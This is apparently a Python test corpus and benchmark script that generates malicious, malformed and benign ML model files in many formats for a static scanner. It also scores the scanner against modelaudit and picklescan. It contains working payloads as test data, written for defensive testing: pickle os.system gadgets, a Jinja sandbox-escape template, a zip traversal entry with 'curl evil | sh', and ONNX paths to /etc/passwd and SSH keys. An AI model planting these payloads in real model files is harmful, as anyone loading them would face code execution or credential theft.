"""The static-scanner corpus: malicious, malformed, benign and unanalysable files in every format the
scanner reads, each with the result it must get, written by the formats' real writers where one is
installed (pickle, torch.save, numpy, joblib, gguf, onnx, h5py, tarfile/zipfile/py7zr, lz4, zstandard)
and crafted by hand where the attack is in the bytes (protocol 0 pickles, OBJ/INST opcodes, hidden
streams, TensorFlow graphs and TFLite flatbuffers, which have no writer here). Nothing is unpickled.

Used by ``tests/test_scan_formats.py`` (every sample must get its expected result) and, run as a
script, to score this project, modelaudit and picklescan side by side with time per file::

    python -m bench.static_corpus --modelaudit /tmp/h4bench/bin/modelaudit \\
        --picklescan /tmp/h4bench/bin/picklescan

modelaudit and picklescan are not project dependencies: install them into a separate venv.
"""

from __future__ import annotations

import argparse
import bz2
import gzip
import io
import json
import lzma
import os
import pickle
import random
import shutil
import struct
import subprocess
import sys
import tarfile
import tempfile
import time
import zipfile
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
from tests.scan_fixtures import _Reduce  # the gadget class: pickled, never loaded

MALICIOUS, MALFORMED, BENIGN, UNANALYSABLE = "malicious", "malformed", "benign", "unanalysable"
EXPECTED = {MALICIOUS: "FAILED", MALFORMED: "FAILED", BENIGN: "PASSED", UNANALYSABLE: "WARNED"}


def _evil(protocol: int = 4) -> bytes:
    return pickle.dumps({"weight": _Reduce(os.system, "echo pwned")}, protocol=protocol)


# --- hand-written encoders for formats without a writer here -------------------------------------


def _varint(value: int) -> bytes:
    out = bytearray()
    while True:
        byte = value & 0x7F
        value >>= 7
        out.append(byte | (0x80 if value else 0))
        if not value:
            return bytes(out)


def _ld(number: int, payload: bytes | str) -> bytes:
    raw = payload.encode() if isinstance(payload, str) else payload
    return _varint(number << 3 | 2) + _varint(len(raw)) + raw


def _saved_model(ops: list[str], library_ops: Sequence[str] = (), function: str = "fn") -> bytes:
    """A SavedModel proto: one MetaGraphDef whose GraphDef holds one NodeDef per op (``name:op`` sets
    the node's name, e.g. ``save/SaveV2:SaveV2``) and one library function named ``function``."""
    nodes = [op.split(":", 1) if ":" in op else (f"node{i}", op) for i, op in enumerate(ops)]
    graph = b"".join(_ld(1, _ld(1, name) + _ld(2, op)) for name, op in nodes)
    if library_ops:
        body = _ld(1, _ld(1, function)) + b"".join(
            _ld(3, _ld(1, f"f{i}") + _ld(2, op)) for i, op in enumerate(library_ops)
        )
        graph += _ld(2, _ld(1, body))
    return _varint(1 << 3) + _varint(1) + _ld(2, _ld(2, graph))


def _tflite(ops: list[tuple[int, str | None]]) -> bytes:
    """A minimal TFLite flatbuffer: a Model table with an operator_codes vector (no subgraphs)."""
    buf = bytearray(b"\0\0\0\0TFL3")
    model_vtable = len(buf)
    buf += struct.pack("<HHHH", 8, 12, 4, 8)
    model = len(buf)
    buf += struct.pack("<iII", model - model_vtable, 3, 0)
    struct.pack_into("<I", buf, 0, model)
    vector = len(buf)
    buf += struct.pack("<I", len(ops)) + b"\0" * 4 * len(ops)
    struct.pack_into("<I", buf, model + 8, vector - (model + 8))
    for i, (builtin, custom) in enumerate(ops):
        vtable = len(buf)
        buf += struct.pack("<HHHHHH", 12, 16, 12, 8 if custom else 0, 0, 4)
        table = len(buf)
        buf += struct.pack("<iiI", table - vtable, builtin, 0) + bytes([min(builtin, 127)]) + b"\0\0\0"
        slot = vector + 4 + 4 * i
        struct.pack_into("<I", buf, slot, table - slot)
        if custom:
            string = len(buf)
            buf += struct.pack("<I", len(custom)) + custom.encode() + b"\0"
            buf += b"\0" * (-len(buf) % 4)
            struct.pack_into("<I", buf, table + 8, string - (table + 8))
    return bytes(buf)


def _msgpack_str(text: str) -> bytes:
    raw = text.encode()
    return bytes([0xA0 | len(raw)]) + raw


def _flax_msgpack() -> bytes:
    """``{"params": {"dense": {"kernel": <ndarray ext 1>}}}`` as flax.serialization writes it."""
    data = struct.pack("<4f", 1.0, 2.0, 3.0, 4.0)
    array = b"\x93" + b"\x92\x02\x02" + _msgpack_str("float32") + b"\xc4" + bytes([len(data)]) + data
    ext = b"\xc7" + bytes([len(array)]) + b"\x01" + array
    return (
        b"\x81"
        + _msgpack_str("params")
        + b"\x81"
        + _msgpack_str("dense")
        + b"\x81"
        + _msgpack_str("kernel")
        + ext
    )


def _sentencepiece() -> bytes:
    pieces = [("<unk>", 0.0, 2), ("<s>", 0.0, 3), ("</s>", 0.0, 3), ("\u2581the", -1.5, 1)]
    body = b"".join(
        _ld(1, _ld(1, p) + b"\x15" + struct.pack("<f", s) + _varint(3 << 3) + _varint(t))
        for p, s, t in pieces
    )
    return body + _ld(2, _ld(1, "spm.txt"))


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(b"\x00\x00"))
        + chunk(b"IEND", b"")
    )


def _gguf_by_hand(
    kv: list[tuple[str, int, bytes]], tensors: list[tuple[str, list[int], int, int]], data: bytes
) -> bytes:
    """A GGUF v3 file from raw metadata values and tensor infos (for malformed cases)."""

    def s(text: str) -> bytes:
        raw = text.encode()
        return struct.pack("<Q", len(raw)) + raw

    out = b"GGUF" + struct.pack("<IQQ", 3, len(tensors), len(kv))
    for key, vtype, value in kv:
        out += s(key) + struct.pack("<I", vtype) + value
    for name, dims, ggml_type, offset in tensors:
        out += s(name) + struct.pack("<I", len(dims)) + b"".join(struct.pack("<Q", d) for d in dims)
        out += struct.pack("<IQ", ggml_type, offset)
    out += b"\0" * (-len(out) % 32)
    return out + data


# --- writers -------------------------------------------------------------------------------------

_JAILBREAK_TEMPLATE = (
    "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}"
    "{{ x()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}"
)
_BENIGN_TEMPLATE = "{% for m in messages %}<|{{ m['role'] }}|>{{ m['content'] }}\n{% endfor %}<|assistant|>"


def _gguf(path: Path, template: str, template_key: str = "tokenizer.chat_template") -> None:
    import gguf
    import numpy as np

    writer = gguf.GGUFWriter(path, "llama")
    writer.add_uint32("llama.context_length", 128)
    writer.add_string(template_key, template)
    writer.add_tensor("token_embd.weight", np.arange(64, dtype=np.float32).reshape(2, 32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()


def _keras_config(layer: dict[str, Any]) -> dict[str, Any]:
    dense = {
        "module": "keras.layers",
        "class_name": "Dense",
        "config": {"name": "dense", "units": 2, "activation": "relu", "dtype": {
            "module": "keras", "class_name": "DTypePolicy", "config": {"name": "float32"}, "registered_name": None}},
        "registered_name": None,
    }  # fmt: skip
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "sequential", "layers": [dense, layer] if layer else [dense]},
        "registered_name": None,
    }


def _keras_zip(path: Path, config: dict[str, Any] | str, weights: bool = False) -> None:
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr(
            "metadata.json", json.dumps({"keras_version": "3.6.0", "date_saved": "2026-01-01@00:00:00"})
        )
        zf.writestr("config.json", config if isinstance(config, str) else json.dumps(config))
        if weights:
            buf = io.BytesIO()
            _h5(buf, None)
            zf.writestr("model.weights.h5", buf.getvalue())


def _h5(target: Path | io.BytesIO, config: dict[str, Any] | None) -> None:
    import h5py
    import numpy as np

    with h5py.File(target, "w") as handle:
        if config is not None:
            handle.attrs["model_config"] = json.dumps(config)
            handle.attrs["keras_version"] = "2.15.0"
        handle.create_dataset("model_weights/dense/kernel", data=np.ones((2, 2), dtype=np.float32))


_LAMBDA = {
    "module": "keras.layers",
    "class_name": "Lambda",
    "config": {
        "name": "lambda",
        "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAA"}},
    },
    "registered_name": None,
}
_OS_MODULE = {"module": "os", "class_name": "system", "config": {"command": "id"}, "registered_name": None}
_UNSAFE = {
    "module": "keras.config",
    "class_name": "enable_unsafe_deserialization",
    "config": {},
    "registered_name": None,
}


def _onnx(path: Path, location: str | None = None, domain: str = "", external_file: bool = False) -> None:
    import onnx
    from onnx import TensorProto, helper

    if location is None:
        weight = helper.make_tensor("w", TensorProto.FLOAT, [2], [1.0, 2.0])
    else:
        weight = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[2])
        weight.data_location = TensorProto.EXTERNAL
        for key, value in (("location", location), ("offset", "0"), ("length", "8")):
            entry = weight.external_data.add()
            entry.key, entry.value = key, value
        if external_file:
            (path.parent / location).write_bytes(struct.pack("<2f", 1.0, 2.0))
    node = helper.make_node("CustomAdd" if domain else "Add", ["x", "w"], ["y"], domain=domain)
    graph = helper.make_graph(
        [node],
        "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [2])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])],
        initializer=[weight],
    )
    opsets = [helper.make_opsetid("", 17)] + ([helper.make_opsetid(domain, 1)] if domain else [])
    path.write_bytes(helper.make_model(graph, opset_imports=opsets).SerializeToString())
    onnx.checker.check_model(str(path)) if location is None and not domain else None


def _joblib(path: Path, obj: Any, compress: Any = 0) -> None:
    import joblib

    joblib.dump(obj, path, compress=compress)


def _evil_joblib(codec: str) -> Callable[[Path], None]:
    return lambda path: _joblib(path, _Reduce(os.system, "id"), (codec, 3))


def _truncated_joblib(path: Path) -> None:
    """A joblib file cut inside an array's raw bytes: the wrapper promises more than the file has."""
    _joblib(path, _arrays())
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])


def _arrays() -> dict[str, Any]:
    import numpy as np

    return {"coef": np.arange(12, dtype=np.float64).reshape(3, 4), "bias": np.zeros(3, dtype=np.float32)}


def _tar(members: dict[str, bytes], mode: str = "w") -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode=mode) as tf:  # type: ignore[call-overload]
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _torch_state() -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save({"layer.weight": torch.ones(2, 2), "layer.bias": torch.zeros(2)}, buf)
    return buf.getvalue()


def _nemo(path: Path, target: str) -> None:
    config = (
        f"target: nemo.collections.asr.models.EncDecCTCModel\n"
        f"preprocessor:\n  _target_: {target}\n  sample_rate: 16000\n"
        f"optim:\n  name: adamw\n  lr: 0.001\n"
    )
    path.write_bytes(_tar({"./model_config.yaml": config.encode(), "./model_weights.ckpt": _torch_state()}))


def _seven_zip(path: Path, members: dict[str, bytes]) -> None:
    import py7zr

    with py7zr.SevenZipFile(path, "w") as archive:
        for name, data in members.items():
            archive.writestr(data, name)


def _zst(data: bytes) -> bytes:
    import zstandard

    return zstandard.ZstdCompressor().compress(data)


def _lz4(data: bytes) -> bytes:
    import lz4.frame

    return lz4.frame.compress(data)


def _hf_repo(path: Path) -> None:
    """An ordinary Hugging Face model folder: every file a benign data kind or a clean weights file."""
    import numpy as np
    from safetensors.numpy import save_file

    path.mkdir()
    (path / "README.md").write_text("---\nlicense: apache-2.0\n---\n# tiny model\n\ncat\ndog\n")
    (path / "LICENSE").write_text("Apache License\nVersion 2.0, January 2004\n")
    (path / ".gitattributes").write_text("*.safetensors filter=lfs diff=lfs merge=lfs -text\n")
    (path / "config.json").write_text(
        json.dumps({"model_type": "llama", "vocab_size": 4, "hidden_size": 2, "num_hidden_layers": 1})
    )
    (path / "generation_config.json").write_text(json.dumps({"max_new_tokens": 8}))
    (path / "tokenizer.json").write_text(
        json.dumps({"version": "1.0", "model": {"type": "BPE", "vocab": {}}})
    )
    (path / "tokenizer_config.json").write_text(json.dumps({"chat_template": _BENIGN_TEMPLATE}))
    (path / "merges.txt").write_text("#version: 0.2\nc at\nd og\n")
    (path / "vocab.txt").write_text("cat\ndog\ncos\nsystem\n")
    (path / "tokenizer.model").write_bytes(_sentencepiece())
    (path / "sample.png").write_bytes(_png())
    save_file(
        {
            "model.embed_tokens.weight": np.zeros((4, 2), dtype=np.float32),
            "model.layers.0.mlp.weight": np.ones((2, 2), dtype=np.float32),
        },
        str(path / "model.safetensors"),
    )


def _folder(files: dict[str, bytes]) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        for name, data in files.items():
            (path / name).parent.mkdir(parents=True, exist_ok=True)
            (path / name).write_bytes(data)

    return write


def _bytes(make: Callable[[], bytes]) -> Callable[[Path], None]:
    return lambda path: path.write_bytes(make())


@dataclass(frozen=True)
class Sample:
    """One corpus entry: ``name`` is the scan target (a file, or a folder when ``folder``)."""

    name: str
    category: str
    rule: str | None
    write: Callable[[Path], None]
    folder: bool = False
    hdf5: bool = False  # needs h5py (and so numpy) to analyse

    @property
    def expected(self) -> str:
        return EXPECTED[self.category]


def _garbage(n: int, seed: int) -> bytes:
    return random.Random(seed).randbytes(n)


SAMPLES: list[Sample] = [
    # --- pickles without magic, opcode tricks, hidden streams --------------------------------
    *(
        Sample(name, MALICIOUS, "pickle.global-dangerous", _bytes(lambda data=data: data))
        for name, data in (
            ("proto0_as.npy", b"cos\nsystem\n(S'echo pwned'\ntR."),  # protocol 0: no magic
            ("obj_opcode.pkl", b"(cos\nsystem\nS'echo pwned'\no."),  # OBJ consumes a MARK
            ("obj_opcode.weights", b"(cos\nsystem\nS'echo'\no."),
            ("inst_opcode.data", b"(S'echo pwned'\nios\nsystem\n."),  # INST names the global inline
        )
    ),
    Sample(
        "hidden_after_garbage.pkl",
        MALICIOUS,
        "pickle.global-dangerous",
        _bytes(lambda: pickle.dumps({"a": 1}, protocol=2) + b"\x00not a pickle\xff" * 8 + _evil()),
    ),
    Sample("evil_protocol5.bin", MALICIOUS, "pickle.global-dangerous", _bytes(lambda: _evil(5))),
    # --- compressed and archived payloads ------------------------------------------------------
    Sample("payload.pkl.xz", MALICIOUS, "pickle.global-dangerous", _bytes(lambda: lzma.compress(_evil()))),
    Sample(
        "payload.pkl.lzma",
        MALICIOUS,
        "pickle.global-dangerous",
        _bytes(lambda: lzma.compress(_evil(), lzma.FORMAT_ALONE)),
    ),
    Sample("payload.pkl.bz2", MALICIOUS, "pickle.global-dangerous", _bytes(lambda: bz2.compress(_evil()))),
    Sample("payload.pkl.gz", MALICIOUS, "pickle.global-dangerous", _bytes(lambda: gzip.compress(_evil()))),
    Sample("payload.pkl.zst", MALICIOUS, "pickle.global-dangerous", _bytes(lambda: _zst(_evil()))),
    Sample("payload.pkl.lz4", MALICIOUS, "pickle.global-dangerous", _bytes(lambda: _lz4(_evil()))),
    Sample(
        "payload.tar.xz",
        MALICIOUS,
        "pickle.global-dangerous",
        _bytes(lambda: _tar({"model/data.pkl": _evil()}, "w:xz")),
    ),
    Sample(
        "payload.7z",
        MALICIOUS,
        "pickle.global-dangerous",
        lambda p: _seven_zip(p, {"inner/model.pkl": _evil()}),
    ),
    Sample(
        "nested.zip",
        MALICIOUS,
        "pickle.global-dangerous",
        _bytes(lambda: _zip({"weights.tar.gz": gzip.compress(_tar({"x.bin": _evil(2)}))})),
    ),
    Sample(
        "traversal.zip",
        MALICIOUS,
        "archive.path-traversal",
        _bytes(lambda: _zip({"../../.bashrc": b"curl evil | sh\n"})),
    ),
    Sample(
        "bomb.bin.gz",
        MALICIOUS,
        "archive.decompression-bomb",
        _bytes(lambda: gzip.compress(b"\0" * (40 << 20), 1)),
    ),
    # --- joblib ----------------------------------------------------------------------------------
    Sample(
        "joblib_plain.joblib",
        MALICIOUS,
        "pickle.global-dangerous",
        lambda p: _joblib(p, {**_arrays(), "z": _Reduce(os.system, "id")}),
    ),
    *(
        Sample(f"joblib_{codec}.joblib", MALICIOUS, "pickle.global-dangerous", _evil_joblib(codec))
        for codec in ("zlib", "xz", "lzma", "bz2", "lz4")
    ),
    # --- GGUF ------------------------------------------------------------------------------------
    Sample(
        "jinja_escape.gguf", MALICIOUS, "code.chat-template-gadget", lambda p: _gguf(p, _JAILBREAK_TEMPLATE)
    ),
    Sample(
        "jinja_escape_named.gguf",
        MALICIOUS,
        "code.chat-template-gadget",
        lambda p: _gguf(p, _JAILBREAK_TEMPLATE, "tokenizer.chat_template.tool_use"),
    ),
    # --- Keras -----------------------------------------------------------------------------------
    Sample("lambda.keras", MALICIOUS, "keras.lambda-layer", lambda p: _keras_zip(p, _keras_config(_LAMBDA))),
    Sample(
        "os_module.keras",
        MALICIOUS,
        "keras.module-not-allowed",
        lambda p: _keras_zip(p, _keras_config(_OS_MODULE)),
    ),
    Sample(
        "unsafe_mode.keras",
        MALICIOUS,
        "keras.dangerous-function",
        lambda p: _keras_zip(p, _keras_config(_UNSAFE)),
    ),
    Sample("lambda.h5", MALICIOUS, "keras.lambda-layer", lambda p: _h5(p, _keras_config(_LAMBDA)), hdf5=True),
    # --- ONNX ------------------------------------------------------------------------------------
    Sample("external_absolute.onnx", MALICIOUS, "onnx.external-data-path", lambda p: _onnx(p, "/etc/passwd")),
    Sample(
        "external_escape.onnx",
        MALICIOUS,
        "onnx.external-data-path",
        lambda p: _onnx(p, "../../../.ssh/id_rsa"),
    ),
    # --- NeMo, TensorFlow ----------------------------------------------------------------------------
    Sample("hydra_target.nemo", MALICIOUS, "hydra.target-not-allowed", lambda p: _nemo(p, "os.system")),
    Sample(
        "tf_pyfunc",
        MALICIOUS,
        "tensorflow.python-op",
        _folder({"saved_model.pb": _saved_model(["Placeholder", "MatMul"], ["EagerPyFunc"])}),
        folder=True,
    ),
    Sample(
        "tf_readfile",
        MALICIOUS,
        "tensorflow.file-op",
        _folder({"saved_model.pb": _saved_model(["Const", "ReadFile", "Identity"])}),
        folder=True,
    ),
    Sample(
        "tf_serving_savev2",
        MALICIOUS,
        "tensorflow.file-op",
        _folder({"saved_model.pb": _saved_model(["Const"], ["SaveV2"], "__inference_serving_default_7")}),
        folder=True,
    ),
    # --- malformed files of known formats --------------------------------------------------------------
    Sample(
        "truncated_meta.gguf",
        MALFORMED,
        "gguf.malformed",
        _bytes(lambda: _gguf_by_hand([("general.name", 8, struct.pack("<Q", 1 << 40) + b"x")], [], b"")),
    ),
    Sample(
        "tensor_past_end.gguf",
        MALFORMED,
        "gguf.malformed",
        _bytes(
            lambda: _gguf_by_hand(
                [("general.alignment", 4, struct.pack("<I", 32))], [("w", [64], 0, 0)], b"\0" * 32
            )
        ),
    ),
    Sample(
        "garbage.onnx",
        MALFORMED,
        "onnx.malformed",
        _bytes(lambda: b"\x0a\xff\xff\xff\xff\x0f" + _garbage(64, 1)),
    ),
    Sample("bad_config.keras", MALFORMED, "keras.config-malformed", lambda p: _keras_zip(p, "{not json")),
    Sample(
        "corrupt.h5",
        MALFORMED,
        "hdf5.malformed",
        _bytes(lambda: b"\x89HDF\r\n\x1a\n" + _garbage(2048, 2)),
        hdf5=True,
    ),
    Sample("truncated.msgpack", MALFORMED, "msgpack.malformed", _bytes(lambda: _flax_msgpack()[:-5])),
    Sample(
        "bad_offsets.tflite",
        MALFORMED,
        "tflite.malformed",
        _bytes(lambda: struct.pack("<I", 1 << 20) + b"TFL3" + b"\0" * 32),
    ),
    Sample("truncated.pkl.xz", MALFORMED, "archive.malformed", _bytes(lambda: lzma.compress(_evil())[:-20])),
    Sample(
        "tf_broken",
        MALFORMED,
        "tensorflow.malformed",
        _folder({"saved_model.pb": b"\x08\x01\x12\xff\x01\x12"}),
        folder=True,
    ),
    Sample("truncated.joblib", MALFORMED, "pickle.malformed", lambda p: _truncated_joblib(p)),
    Sample(
        "corrupt.7z", MALFORMED, "archive.malformed", _bytes(lambda: b"7z\xbc\xaf\x27\x1c" + _garbage(256, 9))
    ),
    Sample("corrupt.zip", MALFORMED, "archive.malformed", _bytes(lambda: b"PK\x03\x04" + _garbage(256, 10))),
    Sample(
        "bad_header.npy",
        MALFORMED,
        "npy.malformed",
        _bytes(lambda: b"\x93NUMPY\x01\x00\x10\x00{'descr': <f4'  \n"),
    ),
    Sample(
        "hydra_broken.nemo",
        MALFORMED,
        "hydra.config-malformed",
        _bytes(lambda: _tar({"model_config.yaml": b"a: [1, 2\nb: {"})),
    ),
    # --- unanalysable: never a silent PASSED -----------------------------------------------------------
    Sample("weights.dat", UNANALYSABLE, "format.unanalysed", _bytes(lambda: _garbage(4096, 3))),
    Sample("model.engine", UNANALYSABLE, "format.unanalysed", _bytes(lambda: b"ftrt" + _garbage(4096, 4))),
    Sample("ggml-legacy.bin", UNANALYSABLE, "format.unanalysed", _bytes(lambda: b"tjgg" + _garbage(4096, 5))),
    Sample(
        "custom_ops.so",
        UNANALYSABLE,
        "code.native-binary",
        _bytes(lambda: b"\x7fELF\x02\x01\x01" + _garbage(4096, 8)),
    ),
    Sample(
        "custom_domain.onnx",
        UNANALYSABLE,
        "onnx.custom-op-domain",
        lambda p: _onnx(p, domain="com.example.evil"),
    ),
    Sample(
        "flex_op.tflite",
        UNANALYSABLE,
        "tflite.custom-op",
        _bytes(lambda: _tflite([(0, None), (32, "FlexReadFile")])),
    ),
    Sample(
        "odd_ext.msgpack",
        UNANALYSABLE,
        "msgpack.unknown-ext-type",
        _bytes(lambda: b"\x81" + _msgpack_str("params") + b"\xd4\x63\x00"),
    ),
    # --- benign: zero false alarms ---------------------------------------------------------------------
    Sample("hf_repo", BENIGN, None, _hf_repo, folder=True),
    Sample("chat.gguf", BENIGN, None, lambda p: _gguf(p, _BENIGN_TEMPLATE)),
    Sample("dense.keras", BENIGN, None, lambda p: _keras_zip(p, _keras_config({}), weights=True), hdf5=True),
    Sample("dense.h5", BENIGN, None, lambda p: _h5(p, _keras_config({})), hdf5=True),
    Sample("add.onnx", BENIGN, None, lambda p: _onnx(p)),
    Sample(
        "onnx_external",
        BENIGN,
        None,
        lambda p: (p.mkdir(), _onnx(p / "model.onnx", "model.onnx.data", external_file=True)),
        folder=True,
    ),
    Sample(
        "tf_savedmodel",
        BENIGN,
        None,
        _folder(
            {
                "saved_model.pb": _saved_model(
                    [
                        "Placeholder",
                        "VarHandleOp",
                        "MatMul",
                        "save/SaveV2:SaveV2",
                        "save/RestoreV2:RestoreV2",
                    ],
                    ["SaveV2", "MergeV2Checkpoints"],
                    "__inference__traced_save_42",
                ),
                "fingerprint.pb": _varint(1 << 3) + _varint(12345) + _varint(2 << 3) + _varint(678),
                "variables/variables.index": _garbage(256, 6),
                "variables/variables.data-00000-of-00001": _garbage(512, 7),
            }
        ),
        folder=True,
    ),
    Sample("builtin_ops.tflite", BENIGN, None, _bytes(lambda: _tflite([(0, None), (9, None)]))),
    Sample("flax_model.msgpack", BENIGN, None, _bytes(_flax_msgpack)),
    Sample("arrays.joblib", BENIGN, None, lambda p: _joblib(p, _arrays())),
    Sample("arrays_zlib.joblib", BENIGN, None, lambda p: _joblib(p, _arrays(), ("zlib", 3))),
    Sample("arrays_xz.joblib", BENIGN, None, lambda p: _joblib(p, _arrays(), ("xz", 3))),
    Sample(
        "asr.nemo",
        BENIGN,
        None,
        lambda p: _nemo(p, "nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor"),
    ),
    Sample("state_dict.pt", BENIGN, None, _bytes(_torch_state)),
    Sample("state.pt.7z", BENIGN, None, lambda p: _seven_zip(p, {"state.pt": _torch_state()})),
    Sample("arrays.npz", BENIGN, None, lambda p: _npz(p)),
    Sample(
        "bundle.tar.xz",
        BENIGN,
        None,
        _bytes(lambda: _tar({"model/README.md": b"# hi\n", "model/state.pt": _torch_state()}, "w:xz")),
    ),
    Sample(
        "two_streams.pkl",
        BENIGN,
        None,
        _bytes(lambda: pickle.dumps({"a": [1, 2]}, 2) + pickle.dumps((3, "x"), 4)),
    ),
]


def _zip(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def _npz(path: Path) -> None:
    import numpy as np

    with path.open("wb") as handle:
        np.savez(handle, a=np.arange(4), b=np.eye(2))


def build_corpus(root: Path, samples: list[Sample] | None = None) -> list[tuple[Sample, Path]]:
    """Write the samples under ``root``; return each with its scan target."""
    root.mkdir(parents=True, exist_ok=True)
    out = []
    for sample in samples if samples is not None else SAMPLES:
        target = root / sample.name
        sample.write(target)
        if sample.folder and not target.exists():
            target.mkdir()
        out.append((sample, target))
    return out


# --- the benchmark ---------------------------------------------------------------------------------


def _project(path: Path) -> str:
    from attest.scan import ScanOptions, scan_model

    return str(scan_model(path, ScanOptions(static_only=True))["result"])


def _project_cli(path: Path) -> str:
    """The same scan through the CLI in a fresh process, timed like the other tools."""
    proc = subprocess.run(
        [sys.executable, "-m", "cli.main", "scan", "--static-only", "--json", "--fail-on", "never", str(path)],
        capture_output=True, text=True, timeout=300, cwd=Path(__file__).resolve().parents[1],
    )  # fmt: skip
    try:
        return str(json.loads(proc.stdout)["result"])
    except (ValueError, KeyError):
        return "ERROR"


_VERDICT = {"PASSED": "clean", "WARNED": "warned", "FAILED": "flagged"}


def _external(tool: str, exe: str, path: Path) -> str:
    """Run modelaudit / picklescan on one target: 'flagged', 'warned', 'clean' or 'error'.

    modelaudit: its JSON report's worst issue severity (critical -> flagged, warning -> warned).
    picklescan: exit 0 clean, 1 dangerous globals found, 2 scan error."""
    env = {**os.environ, "MODELAUDIT_TELEMETRY": "0", "PROMPTFOO_DISABLE_TELEMETRY": "1", "NO_COLOR": "1"}
    if tool == "picklescan":
        proc = subprocess.run(
            [exe, "--path", str(path)], capture_output=True, text=True, timeout=300, env=env
        )
        return {0: "clean", 1: "flagged"}.get(proc.returncode, "error")
    args = [exe, "scan", "--no-cache", "-f", "json", str(path)]
    proc = subprocess.run(args, capture_output=True, text=True, timeout=300, env=env)
    try:
        report = json.loads(proc.stdout)
    except ValueError:
        return "error"
    severities = {str(issue.get("severity", "")).lower() for issue in report.get("issues", [])}
    if "critical" in severities:
        return "flagged"
    if "warning" in severities:
        return "warned"
    return "error" if proc.returncode not in (0, 1) else "clean"


def _pickle_corpus(root: Path) -> list[tuple[Sample, Path]]:
    """The earlier crafted corpus (pickle gadget families, legacy torch, malformed safetensors)."""
    from tests.scan_fixtures import build_static_corpus

    bad, good = build_static_corpus(root)
    out = []
    for path in bad:
        category = MALFORMED if path.name.startswith(("st_", "truncated")) else MALICIOUS
        out.append((Sample(path.name, category, None, lambda p: None), path))
    out += [(Sample(path.name, BENIGN, None, lambda p: None), path) for path in good]
    return out


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--modelaudit", help="modelaudit executable (default: on PATH)")
    parser.add_argument("--picklescan", help="picklescan executable (default: on PATH)")
    parser.add_argument("--keep", type=Path, help="write the corpus here and keep it")
    args = parser.parse_args()
    run(args.modelaudit, args.picklescan, args.keep)


def run(modelaudit: str | None = None, picklescan: str | None = None, keep: Path | None = None) -> None:
    """Build the corpus and print the side-by-side table (tools not found are left out)."""
    tools = {
        name: exe
        for name, exe in (
            ("modelaudit", modelaudit or shutil.which("modelaudit")),
            ("picklescan", picklescan or shutil.which("picklescan")),
        )
        if exe and Path(exe).exists()
    }
    with tempfile.TemporaryDirectory() as tmp:
        root = keep or Path(tmp)
        corpus = build_corpus(root) + _pickle_corpus(root / "pickle-gadgets")
        _project(corpus[0][1])  # warm imports so the first row does not carry them
        columns = ["model-attest", "model-attest-cli", *tools]
        times: dict[str, float] = dict.fromkeys(columns, 0.0)
        cells: dict[str, dict[str, str]] = {c: {} for c in columns}
        print(f"{'sample':<28} {'kind':<12} " + " ".join(f"{c:>16}" for c in columns))
        for sample, path in corpus:
            row = []
            for column in columns:
                start = time.perf_counter()
                if column == "model-attest":
                    verdict = _VERDICT.get(_project(path), "error")
                elif column == "model-attest-cli":
                    verdict = _VERDICT.get(_project_cli(path), "error")
                else:
                    verdict = _external(column, tools[column], path)
                times[column] += time.perf_counter() - start
                cells[column][str(path)] = verdict
                row.append(verdict)
            print(f"{sample.name:<28} {sample.category:<12} " + " ".join(f"{c:>16}" for c in row), flush=True)
        _summary(corpus, columns, cells, times)


def _summary(
    corpus: list[tuple[Sample, Path]],
    columns: list[str],
    cells: dict[str, dict[str, str]],
    times: dict[str, float],
) -> None:
    """The Markdown table docs/scanner.md carries, and the comparison with modelaudit."""
    groups = {
        c: [str(p) for s, p in corpus if s.category == c]
        for c in (MALICIOUS, MALFORMED, BENIGN, UNANALYSABLE)
    }
    names = {str(p): s.name for s, p in corpus}
    print()
    print(
        "| tool | malicious FAILED (flagged) | malformed FAILED (flagged) | benign with no alarm "
        "| unanalysable at least warned | ms per target |"
    )
    print("|---|---|---|---|---|---|")
    for column in columns:
        got = cells[column]

        def count(category: str, accepted: tuple[str, ...], got: dict[str, str] = got) -> str:
            return f"{sum(got[key] in accepted for key in groups[category])}/{len(groups[category])}"

        per = 1000 * times[column] / len(corpus)
        print(
            f"| {column} | {count(MALICIOUS, ('flagged',))} | {count(MALFORMED, ('flagged',))} "
            f"| {count(BENIGN, ('clean',))} | {count(UNANALYSABLE, ('flagged', 'warned'))} | {per:.1f} |"
        )
    if "modelaudit" in cells:
        ours, theirs = cells["model-attest"], cells["modelaudit"]
        bad = set(groups[MALICIOUS] + groups[MALFORMED] + groups[UNANALYSABLE])
        missed = [
            names[k]
            for k, v in theirs.items()
            if k in bad and v in ("flagged", "warned") and ours[k] == "clean"
        ]
        weaker = [names[k] for k, v in theirs.items() if k in bad and v == "flagged" and ours[k] != "flagged"]
        false_alarms = [names[k] for k, v in theirs.items() if k in groups[BENIGN] and v != "clean"]
        ratio = times["modelaudit"] / max(times["model-attest-cli"], 1e-9)
